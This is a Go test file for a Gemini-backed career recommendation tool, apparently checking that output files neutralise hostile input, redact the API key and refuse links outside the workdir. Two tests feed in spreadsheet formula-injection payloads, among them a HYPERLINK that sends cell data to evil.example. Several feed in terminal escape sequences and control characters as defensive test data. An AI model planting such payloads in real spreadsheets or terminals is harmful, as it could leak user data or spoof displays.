package recommend

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skillx/skillx/internal/gemini"
	"github.com/skillx/skillx/internal/gemini/geminitest"
	"github.com/skillx/skillx/internal/report"
)

// checkIncomplete checks that err is the *IncompleteError of a finished run with failed
// people failing: exit code 3, the counts, and failures.jsonl named.
func checkIncomplete(t *testing.T, res *Result, err error, failed int) {
	t.Helper()
	var ie *IncompleteError
	if !errors.As(err, &ie) {
		t.Fatalf("Run error = %v; want an *IncompleteError", err)
	}
	if ie.ExitCode() != 3 || ie.Failed != failed || ie.Failed != res.Failed || ie.Users != len(res.Outcomes) || ie.Failures != res.Failures {
		t.Errorf("IncompleteError = %+v, exit code %d; want 3, %d of %d failed and %s", ie, ie.ExitCode(), failed, len(res.Outcomes), res.Failures)
	}
	if want := fmt.Sprintf("%d of %d users failed; see %s", failed, len(res.Outcomes), res.Failures); !strings.Contains(err.Error(), want) {
		t.Errorf("error %q; want it to say %q", err, want)
	}
}

// writeFile writes content to name in a fresh folder and returns its path.
func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// checkNoControls fails for any file under dir that holds ESC, BEL or NUL.
func checkNoControls(t *testing.T, dir string) {
	t.Helper()
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, _ := os.ReadFile(path)
		if i := bytes.IndexAny(data, "\x1b\x07\x00"); i >= 0 {
			t.Errorf("%s holds a raw control character at byte %d: %q", path, i, data[max(0, i-20):min(len(data), i+20)])
		}
		return nil
	})
}

// TestRecommendCSVInjection: ids a spreadsheet would run as formulas reach summary.csv
// neutralised, a tab-led "\t=cmd" included once trimmed; a 10 KB id is cut there and in
// failures.jsonl.
func TestRecommendCSVInjection(t *testing.T) {
	long := strings.Repeat("x", 10240)
	users := writeFile(t, "users.csv", "user_id,current_role,skills\n"+
		`"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Data Analyst,SQL; Excel`+"\n"+
		"\"\t=cmd\",Data Analyst,SQL; Python\n"+
		"@sum,Registered Nurse,BLS; Epic\n"+
		"-2+3,Barista,Latte art; Cash handling\n"+
		long+",Data Analyst,SQL\n")
	cfg := testConfig(t, nil, &logBuffer{})
	cfg.Users = users
	res, err := Run(context.Background(), cfg)
	checkIncomplete(t, res, err, 1)
	checkAccounting(t, res, 5)
	rows := summaryRows(t, res.Summary)
	wantIDs := []string{`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'=cmd", "'@sum", "'-2+3",
		strings.Repeat("x", 200) + "…(10240 bytes)"}
	for i, want := range wantIDs {
		if got := rows[i]["user_id"]; got != want {
			t.Errorf("summary row %d user_id = %.80q; want %.80q", i+1, got, want)
		}
	}
	fails := failureLines(t, res.Failures)
	if len(fails) != 1 || fails[0].UserID != wantIDs[4] || !strings.Contains(fails[0].Reason, "user id is 10240 characters long") {
		t.Errorf("failures %.300v; want the long id, cut, with its reason", fails)
	}
	for _, p := range []string{res.Summary, res.Failures} {
		if st, err := os.Stat(p); err != nil || st.Size() > 2048 {
			t.Errorf("%s: %v, size %d; want the 10 KB id cut", p, err, st.Size())
		}
	}
	if res.Outcomes[1].UserID != "=cmd" {
		t.Errorf("the report of %q keeps the id %q; want the id itself (only CSV cells are escaped)", "\t=cmd", res.Outcomes[1].UserID)
	}
}

// TestRecommendControlCharacters: NUL, ESC, BEL, C1 controls and a right-to-left override in ids, roles and skills of
// a JSON Lines file make that person fail with the field named, and no output file holds
// one raw.
func TestRecommendControlCharacters(t *testing.T) {
	users := writeFile(t, "users.jsonl", strings.Join([]string{
		`{"user_id": "nul\u0000id", "current_role": "Data Analyst", "skills": ["SQL"]}`,
		`{"user_id": "esc", "current_role": "Data\u001b]0;pwned\u0007 Analyst", "skills": ["SQL"]}`,
		`{"user_id": "bel", "current_role": "Registered Nurse", "skills": ["BLS", "Ep\u0007ic"]}`,
		`{"user_id": "c1", "current_role": "Registered Nurse", "skills": ["\u009b31mred"]}`,
		`{"user_id": "rlo", "current_role": "Registered Nurse", "skills": ["BLS", "Ep\u202Eic"]}`,
		`{"user_id": "ok", "current_role": "Registered Nurse", "skills": ["BLS", "Epic"]}`,
	}, "\n")+"\n")
	cfg := testConfig(t, nil, &logBuffer{})
	cfg.Users = users
	res, err := Run(context.Background(), cfg)
	checkIncomplete(t, res, err, 5)
	checkAccounting(t, res, 6)
	want := map[string]string{
		`nul\x00id`: "user id holds the control character U+0000 (NUL) at character 4",
		"esc":       "current role holds the control character U+001B (ESC) at character 5",
		"bel":       "skill 2 holds the control character U+0007 (BEL) at character 3",
		"c1":        "skill 1 holds the control character U+009B (CSI) at character 1",
		"rlo":       "skill 2 holds the control character U+202E (RLO) at character 3",
	}
	for _, f := range failureLines(t, res.Failures) {
		if w, ok := want[f.UserID]; !ok || !strings.Contains(f.Reason, w) || f.Stage != StageInput || f.Row == 0 || f.File != users {
			t.Errorf("failure %+v; want stage input, the file %s, its row and %q", f, users, w)
		}
		delete(want, f.UserID)
	}
	if len(want) > 0 {
		t.Errorf("no failure for %q", want)
	}
	checkNoControls(t, res.Dir)
}

// TestRecommendUntrustedReply: Gemini's answer echoes the API key and holds terminal escapes,
// and its first role is a formula: no file holds the key or a raw escape, and summary.csv
// neutralises the role.
func TestRecommendUntrustedReply(t *testing.T) {
	f := newFake(t, func(w http.ResponseWriter, r *http.Request, n int, d promptData) {
		rep := goodReport(d)
		last := rep.Roles[len(rep.Roles)-1]
		last.Role = `=HYPERLINK("http://evil.example","` + testKey + `")`
		rep.Roles = append([]report.RoleReport{last}, rep.Roles[:len(rep.Roles)-1]...)
		rep.Roles[1].JobDescription = "Your key is " + testKey + ".\x1b]0;pwned\x07"
		rep.Roles[2].Provenance.Reason = "because " + testKey
		rep.Roles[3].SkillMatches[0].Justification = "\x1b[2J" + testKey
		writeJSON(w, 200, genResponse(mustJSON(t, rep)))
	})
	logs := &logBuffer{}
	cfg := testConfig(t, f, logs)
	res, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	checkAccounting(t, res, 16)
	assertNoKeyIn(t, logs.String(), res.Dir, cfg.Gemini.CacheDir)
	checkNoControls(t, res.Dir)
	if text, _ := os.ReadFile(res.Outcomes[0].Text); !bytes.Contains(text, []byte("Your key is [redacted].")) {
		t.Errorf("%s does not show the echoed key redacted", res.Outcomes[0].Text)
	}
	rows := summaryRows(t, res.Summary)
	if got := rows[0]["final_roles"]; !strings.HasPrefix(got, `'=HYPERLINK("http://evil.example","[redacted]")`) {
		t.Errorf("summary final_roles = %q; want the model's formula neutralised and the key redacted", got)
	}
}

// TestRecommendOutDirLink: reports/users is a symbolic link to a folder outside the workdir:
// refused without AllowOutsideWorkdir, and with it the result names the real folder.
func TestRecommendOutDirLink(t *testing.T) {
	shared := trained(t)
	work := t.TempDir()
	for _, d := range []string{"data", "models"} {
		if err := os.Symlink(filepath.Join(shared, d), filepath.Join(work, d)); err != nil {
			t.Skipf("no symbolic links here: %v", err)
		}
	}
	outside := t.TempDir()
	os.MkdirAll(filepath.Join(work, "reports"), 0o755)
	if err := os.Symlink(outside, filepath.Join(work, "reports", "users")); err != nil {
		t.Fatal(err)
	}
	cfg := testConfig(t, nil, &logBuffer{})
	cfg.Workdir, cfg.OutDir = work, ""
	cfg.Users = writeFile(t, "users.csv", "user_id,current_role,skills\na,Data Analyst,SQL; Excel\n")
	real, _ := filepath.EvalSymlinks(outside)
	_, err := Run(context.Background(), cfg)
	if err == nil || !strings.Contains(err.Error(), "is a link to "+real+", outside the workdir") || !strings.Contains(err.Error(), "--allow-outside-workdir") {
		t.Fatalf("Run into a linked reports folder = %v; want a refusal naming %s and the flag", err, real)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("the refused run wrote %d files outside the workdir", len(entries))
	}
	cfg.AllowOutsideWorkdir = true
	res, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatalf("Run with AllowOutsideWorkdir: %v", err)
	}
	if res.Dir != real || res.Summary != filepath.Join(real, "summary.csv") {
		t.Errorf("result folder %s, summary %s; want the real folder %s", res.Dir, res.Summary, real)
	}
	if _, err := os.Stat(filepath.Join(outside, "a.json")); err != nil {
		t.Errorf("report not in the real folder: %v", err)
	}
}

// TestRecommendUsersFileErrors: a missing file is named once, and a header-only file is an
// error that leaves the earlier outputs alone.
func TestRecommendUsersFileErrors(t *testing.T) {
	cfg := testConfig(t, nil, &logBuffer{})
	os.MkdirAll(cfg.OutDir, 0o755)
	summary, failures := OutputPaths(cfg.OutDir)
	os.WriteFile(summary, []byte("earlier\n"), 0o644)
	os.WriteFile(failures, []byte("earlier\n"), 0o644)

	cfg.Users = filepath.Join(t.TempDir(), "nope.csv")
	_, err := Run(context.Background(), cfg)
	if err == nil || !strings.Contains(err.Error(), "users file "+cfg.Users+": no such file") || strings.Count(err.Error(), "nope.csv") != 1 {
		t.Errorf("missing users file: %v; want %q said once", err, "users file .../nope.csv: no such file")
	}
	for _, content := range []string{"user_id,current_role,skills\n", "user_id,current_role,skills"} {
		cfg.Users = writeFile(t, "users.csv", content)
		_, err = Run(context.Background(), cfg)
		if err == nil || !strings.Contains(err.Error(), "has no people") {
			t.Errorf("header-only users file %q: %v; want an error", content, err)
		}
	}
	for _, p := range []string{summary, failures} {
		if data, _ := os.ReadFile(p); string(data) != "earlier\n" {
			t.Errorf("%s = %q after failed runs; want the earlier output left alone", p, data)
		}
	}
	cfg.Users = writeFile(t, "users.csv", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10")
	if _, err = Run(context.Background(), cfg); err == nil || !strings.Contains(err.Error(), "not a text") || strings.ContainsAny(err.Error(), "\x1a\x00") {
		t.Errorf("a PNG as users file: %q; want it called not a text table, with no raw control character", err)
	}
}

// closedPort returns the URL of a local port where nothing listens.
func closedPort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return "http://" + addr
}

// TestRecommendUnreachable: with a key but no way to reach Gemini, a run stops asking after
// a few people and says in one line to check the network or use --offline.
func TestRecommendUnreachable(t *testing.T) {
	logs := &logBuffer{}
	cfg := testConfig(t, nil, logs)
	cfg.Gemini = gemini.Config{APIKey: testKey, BaseURL: closedPort(t), Timeout: 30 * time.Second, MaxRetries: 1,
		BackoffBase: time.Millisecond, BackoffMax: time.Millisecond, Logger: cfg.Logger}
	res, err := Run(context.Background(), cfg)
	if err == nil || !strings.Contains(err.Error(), "Gemini cannot be reached") || !strings.Contains(err.Error(), "--offline") || strings.Contains(err.Error(), "\n") {
		t.Fatalf("Run with Gemini out of reach = %v; want one line suggesting --offline", err)
	}
	checkAccounting(t, res, 16)
	notSent := 0
	for _, f := range failureLines(t, res.Failures) {
		if !strings.Contains(f.Reason, "--offline") {
			t.Errorf("failure %+v does not suggest --offline", f)
		}
		if strings.HasPrefix(f.Reason, "not sent") {
			notSent++
		}
	}
	// At most unreachableLimit-1 people are sent after the first failures come back, plus
	// one per worker before that.
	if maxSent := unreachableLimit - 1 + cfg.Workers; notSent < 16-maxSent {
		t.Errorf("%d people not sent; want at least %d once Gemini was found out of reach", notSent, 16-maxSent)
	}
	assertNoKeyIn(t, logs.String()+err.Error(), res.Dir)

	// One person: the same one-line advice.
	cfg.Users, cfg.Person = "", &Person{ID: "me", CurrentRole: "Data Analyst", Skills: "SQL;Excel"}
	if _, err := Run(context.Background(), cfg); err == nil || !strings.Contains(err.Error(), "--offline") || strings.Contains(err.Error(), "\n") {
		t.Errorf("one person with Gemini out of reach = %v; want one line suggesting --offline", err)
	}
}

// TestRecommendBilledFailures: a person whose every reply is invalid fails, and the tokens of
// those replies are counted in the run's totals and that person's summary row.
func TestRecommendBilledFailures(t *testing.T) {
	good := answerGood(t)
	f := newFake(t, func(w http.ResponseWriter, r *http.Request, n int, d promptData) {
		if d.CurrentRole == "Barista" {
			writeJSON(w, 200, genResponse(`{"roles": []}`))
			return
		}
		good(w, r, n, d)
	})
	cfg := testConfig(t, f, &logBuffer{})
	cfg.Gemini.MaxRetries = 2
	res, err := Run(context.Background(), cfg)
	checkIncomplete(t, res, err, 1)
	if billed := 15 + 3; res.PromptTokens != 120*billed || res.OutputTokens != 300*billed {
		t.Errorf("tokens %d + %d; want %d + %d (15 reports and 3 invalid replies)", res.PromptTokens, res.OutputTokens, 120*billed, 300*billed)
	}
	for _, row := range summaryRows(t, res.Summary) {
		if row["user_id"] == "leo.m" && (row["status"] != StatusFailed || row["prompt_tokens"] != "360") {
			t.Errorf("leo.m's summary row %v; want failed with 360 prompt tokens billed", row)
		}
	}
}

// sharedUsers writes a users file of n people with only k distinct (role, skills).
func sharedUsers(t *testing.T, n, k int) string {
	t.Helper()
	data, err := os.ReadFile(sampleUsers)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")[1:]
	var b strings.Builder
	b.WriteString("user_id,current_role,skills\n")
	for i := range n {
		_, rest, _ := strings.Cut(lines[i%k], ",")
		fmt.Fprintf(&b, "s%03d,%s\n", i+1, rest)
	}
	return writeFile(t, "users.csv", b.String())
}

// TestRecommendBatchSharedPrompts: 40 people with 8 distinct prompts cost one job of 8
// requests, and the tokens of 8 answers.
func TestRecommendBatchSharedPrompts(t *testing.T) {
	f := newFake(t, answerGood(t))
	batch := f.serveBatch(func(d promptData) map[string]any {
		return map[string]any{"response": genResponse(mustJSON(t, goodReport(d)))}
	})
	cfg := testConfig(t, f, &logBuffer{})
	cfg.Users = sharedUsers(t, 40, 8)
	cfg.Batch, cfg.BatchPoll, cfg.BatchState = true, time.Millisecond, filepath.Join(t.TempDir(), "batch.json")
	res, err := Run(context.Background(), cfg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	checkAccounting(t, res, 40)
	if res.Written != 40 || batch.Creates() != 1 || len(batch.Requests()) != 8 || f.calls() != 0 {
		t.Errorf("written %d, %d jobs of %d requests, %d single calls; want 40, 1 job of 8, none", res.Written, batch.Creates(), len(batch.Requests()), f.calls())
	}
	if res.PromptTokens != 8*120 || res.OutputTokens != 8*300 {
		t.Errorf("tokens %d + %d; want %d + %d (8 answers billed)", res.PromptTokens, res.OutputTokens, 8*120, 8*300)
	}
}

// TestRecommendBatchResume: a run whose job cannot be polled (as if killed while polling)
// leaves the job's name; the rerun resumes that job and pays for no second one.
func TestRecommendBatchResume(t *testing.T) {
	f := newFake(t, answerGood(t))
	batch := f.serveBatch(func(d promptData) map[string]any {
		return map[string]any{"response": genResponse(mustJSON(t, goodReport(d)))}
	})
	batch.Update(func(b *geminitest.Batch) { b.FailGets, b.Running = 4, 1 }) // more than the 3 retries
	cfg := testConfig(t, f, &logBuffer{})
	cfg.Batch, cfg.BatchPoll, cfg.BatchState = true, time.Millisecond, filepath.Join(t.TempDir(), "batch.json")
	res, err := Run(context.Background(), cfg)
	if err == nil || res.Failed != 16 || !strings.Contains(err.Error(), "resumes it") {
		t.Fatalf("Run with failing polls: %v, %d failed; want all 16 failed and a word on resuming", err, res.Failed)
	}
	if _, err := os.Stat(cfg.BatchState); err != nil {
		t.Fatalf("the job's name was not kept: %v", err)
	}
	res, err = Run(context.Background(), cfg)
	if err != nil {
		t.Fatalf("rerun: %v", err)
	}
	checkAccounting(t, res, 16)
	if res.Written != 16 || batch.Creates() != 1 || res.PromptTokens != 16*120 {
		t.Errorf("rerun: %d written, %d jobs created, %d prompt tokens; want 16, 1 (resumed) and %d", res.Written, batch.Creates(), res.PromptTokens, 16*120)
	}
	if _, err := os.Stat(cfg.BatchState); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the job's state after its answers were cached: %v; want it removed", err)
	}
}
